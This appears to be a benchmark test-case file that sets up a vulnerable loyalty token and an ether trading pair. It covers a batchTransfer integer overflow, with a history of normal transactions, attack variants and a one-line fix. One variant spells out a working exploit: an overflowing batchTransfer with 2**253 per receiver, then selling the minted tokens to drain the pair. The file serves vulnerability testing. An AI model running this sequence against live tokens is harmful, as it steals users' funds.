import { declareCase } from '../lib/declare-case.ts'
import { crowd, deployWallet, ETHER, fundAll } from '../lib/set-up.ts'
import { actor, call, reverting, strike, through } from '../lib/steps.ts'

const NAME = 'loyalty-token'
const owner = actor(`${NAME}/owner`)
const attacker = actor(`${NAME}/attacker`)
const users = crowd(NAME, 9)

export default declareCase({
  about:
    'a token multiplies the number of receivers with the value in a batch payment without looking at the overflow',
  class: 'arithmetic',
  hardfork: 'cancun',
  units: [
    { compiler: '0.4.26', files: ['LoyaltyToken.sol'] },
    { compiler: '0.8.30', optimizerRuns: 200, evmVersion: 'london', files: ['Attack.sol'] },
  ],

  async setUp(world) {
    await fundAll(world, [owner, attacker, ...users], 100n * ETHER)
    const token = await world.deploy('LoyaltyToken', [5_000_000n * ETHER], owner)
    const pair = await world.deploy('EtherPair', [token.address], owner)
    const wallet = await deployWallet(world, users[0]!, 10n * ETHER)
    await world.run(call(owner, token, 'approve', [pair.address, 400_000n * ETHER]))
    await world.run(call(owner, pair, 'addLiquidity', [400_000n * ETHER], { value: 80n * ETHER }))
    for (const user of [...users.slice(0, 6), wallet.address])
      await world.run(call(owner, token, 'transfer', [user, 20_000n * ETHER]))
    return { token, pair, wallet }
  },
  protect: ({ token, pair }) => [token, pair],
  loss: ({ pair }) => [{ token: 'native', from: pair.address }],

  history({ token, pair, wallet }) {
    const points = (amount: number) => BigInt(amount) * ETHER
    const byWallet = (name: string, args: readonly unknown[]) =>
      through(wallet.address, call(users[0]!, token, name, args))
    return [
      call(owner, token, 'batchTransfer', [users.slice(0, 5), points(1_000)]),
      ...[6, 7, 8].map((user) =>
        call(users[user]!, pair, 'buyTokens', [points(1_000)], { value: ETHER / 2n }),
      ),
      call(users[0]!, token, 'transfer', [users[3], points(250)]),
      byWallet('batchTransfer', [users.slice(4, 7), points(800)]),
      call(users[1]!, token, 'approve', [pair.address, points(5_000)]),
      call(users[1]!, pair, 'sellTokens', [points(5_000), ETHER / 2n]),
      reverting(call(users[1]!, pair, 'sellTokens', [points(1), 0n])),
      call(users[2]!, token, 'increaseApproval', [users[3], points(700)]),
      call(users[3]!, token, 'transferFrom', [users[2], users[8], points(400)]),
      reverting(call(users[3]!, token, 'transferFrom', [users[2], users[8], points(400)])),
      call(users[2]!, token, 'decreaseApproval', [users[3], points(100)]),
      byWallet('transfer', [users[7], points(300)]),
      call(users[4]!, token, 'burn', [points(55)]),
      call(users[3]!, token, 'batchTransfer', [[users[0], wallet.address], points(2_500)]),
      reverting(call(users[8]!, token, 'batchTransfer', [users.slice(0, 8), points(900_000)])),
      call(owner, token, 'setBlocked', [users[5], true]),
      reverting(call(users[5]!, token, 'transfer', [users[6], points(1)])),
      call(owner, token, 'setBlocked', [users[5], false]),
      call(users[5]!, token, 'transfer', [users[6], points(1_200)]),
      byWallet('approve', [pair.address, points(4_000)]),
      through(wallet.address, call(users[0]!, pair, 'sellTokens', [points(4_000), 0n])),
      call(owner, token, 'batchTransfer', [users, points(333)]),
      byWallet('burn', [points(20)]),
      call(users[6]!, token, 'approve', [pair.address, points(600)]),
      call(users[6]!, pair, 'addLiquidity', [points(600)], { value: ETHER / 10n }),
      call(users[6]!, pair, 'removeLiquidity', [ETHER / 20n]),
      reverting(call(users[7]!, token, 'setFrozen', [true])),
      call(owner, token, 'setFrozen', [true]),
      reverting(call(users[7]!, token, 'transfer', [users[0], points(1)])),
      call(owner, token, 'setFrozen', [false]),
      call(users[7]!, token, 'batchTransfer', [[users[1]], points(150)]),
      call(users[8]!, token, 'transfer', [wallet.address, points(75)]),
      byWallet('batchTransfer', [[users[2], users[3], users[4], users[5]], points(10)]),
      call(users[0]!, pair, 'buyTokens', [0n], { value: 2n * ETHER }),
    ]
  },

  attack: ({ token, pair }, { BatchOfNothing }) =>
    strike(attacker, BatchOfNothing!, {
      args: [token.address, pair.address],
      run: 'run',
      with: [1n, 9_000_000n * ETHER],
    }),
  variants: ({ token, pair }, { BatchOfNothing }) => [
    strike(attacker, BatchOfNothing!, {
      args: [token.address, pair.address],
      run: 'run',
      with: [4n, 2_000_000n * ETHER],
    }),
    [
      call(attacker, token, 'batchTransfer', [[attacker, ...users.slice(0, 7)], 2n ** 253n]),
      call(attacker, token, 'approve', [pair.address, 3_000_000n * ETHER]),
      call(attacker, pair, 'sellTokens', [3_000_000n * ETHER, 0n]),
    ],
  ],
  fix: [
    {
      file: 'LoyaltyToken.sol',
      replace: '        require(value > 0 && balanceOf',
      by: '        require(amount / count == value);\n        require(value > 0 && balanceOf',
    },
  ],
})
